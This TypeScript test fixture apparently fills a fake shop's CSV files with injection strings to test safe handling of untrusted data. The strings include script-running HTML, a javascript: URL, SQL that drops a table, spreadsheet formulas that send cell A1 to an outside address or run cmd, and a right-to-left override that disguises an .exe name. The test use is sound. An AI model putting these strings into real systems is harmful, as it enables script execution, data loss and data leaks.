import Papa from 'papaparse'
import type { ShopFiles } from './oddShops'

/** Where a payload that ran leaves its mark: `window.payloadRan`, or an element of this class. */
export const PAYLOAD_CLASS = 'payload-ran'

/** Texts that a careless program runs, breaks on or shows as something else; each is clean as a text of a cell. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  image: `<img src=x onerror="window.payloadRan=1" class="${PAYLOAD_CLASS}">`,
  script: `<script>window.payloadRan=1</script><b class=${PAYLOAD_CLASS}>bold</b>`,
  attribute: `"' onmouseover=window.payloadRan=1 x="><svg onload=window.payloadRan=1 class=${PAYLOAD_CLASS}>`,
  entity: `&lt;i class=${PAYLOAD_CLASS}&gt;&amp;amp;`,
  address: 'javascript:window.payloadRan=1//https://192.0.2.1/?q=',
  sql: `x'); drop table silver_sales; -- " or 1=1`,
  hyperlink: '=HYPERLINK("http://192.0.2.1/?"&A1,"Click")',
  command: `+cmd|' /C calc'!A0`,
  minus: '-2+3+cmd',
  at: '@SUM(1+1)',
  override: 'invoice \u202Egnp.exe',
  isolate: 'open \u2067 and never closed \u2066',
  hebrew: 'חנות \u200F(1) abc',
  control: 'bell \u0007 escape \u001B[31m red',
  prototype: '__proto__',
  constructed: 'constructor',
  method: 'toString',
  nesting: '$t(errors.back) {{count}} $& $1',
  chart: '{b}: {c} {a|rich} %s ${x}',
  marks: `Z${'\u0335\u0321\u0353'.repeat(40)}algo`.normalize('NFC'),
  family: '👩‍👩‍👧‍👦 🏳️‍🌈 shop',
  surrogate: 'half \uFFFD of a pair',
  long: 'Endless'.repeat(1_430),
  words: 'many words '.repeat(900).trim(),
}

const csv = (rows: readonly (readonly (string | number)[])[]): string =>
  `${Papa.unparse(
    rows.map((row) => [...row]),
    { newline: '\n' },
  )}\n`

const texts = Object.values(PAYLOADS)
const ids = Object.keys(PAYLOADS)

/** A shop that has each payload as a header, a cell and the name of everything that has a name; a line a payload and month. */
export const PAYLOAD_SHOP: ShopFiles = {
  'transactions.csv': csv([
    [
      'transaction_id',
      'transaction_date',
      'product_id',
      'quantity',
      'unit_price',
      'customer_id',
      'store_id',
      'promotion_id',
      ...texts,
    ],
    ...[1, 2, 3].flatMap((month) =>
      ids.map((id, i) => [
        `T${month} ${i >> 1}`,
        `2024-0${month}-${String(1 + i).padStart(2, '0')} 10:15`,
        id,
        1 + (i % 3),
        `${10 + i}.00`,
        id,
        id,
        i % 3 === 0 ? id : '',
        ...texts,
      ]),
    ),
  ]),
  'products.csv': csv([
    ['product_id', 'product_name', 'category', 'supplier_name', 'price'],
    ...ids.map((id, i) => [id, texts[i] ?? '', texts[i] ?? '', texts[i] ?? '', `${10 + i}.00`]),
  ]),
  'customers.csv': csv([
    ['customer_id', 'customer_name', 'join_date', 'country'],
    ...ids.map((id, i) => [id, texts[i] ?? '', '2024-01-01', texts[i] ?? '']),
  ]),
  'stores.csv': csv([
    ['store_id', 'store_name', 'city', 'region', 'country'],
    ...ids.map((id, i) => [id, texts[i] ?? '', texts[i] ?? '', texts[i] ?? '', texts[i] ?? '']),
  ]),
  'promotions.csv': csv([
    ['promotion_id', 'promotion_name', 'promotion_method', 'discount_percent', 'start_date', 'end_date'],
    ...ids.map((id, i) => [id, texts[i] ?? '', texts[i] ?? '', 10, '', '']),
  ]),
  'feedback.csv': csv([
    ['feedback_id', 'product_id', 'rating', 'review_date', 'comment'],
    ...ids.map((id, i) => [`F${i}`, id, 1 + (i % 5), '2024-02-01', texts[i] ?? '']),
  ]),
}
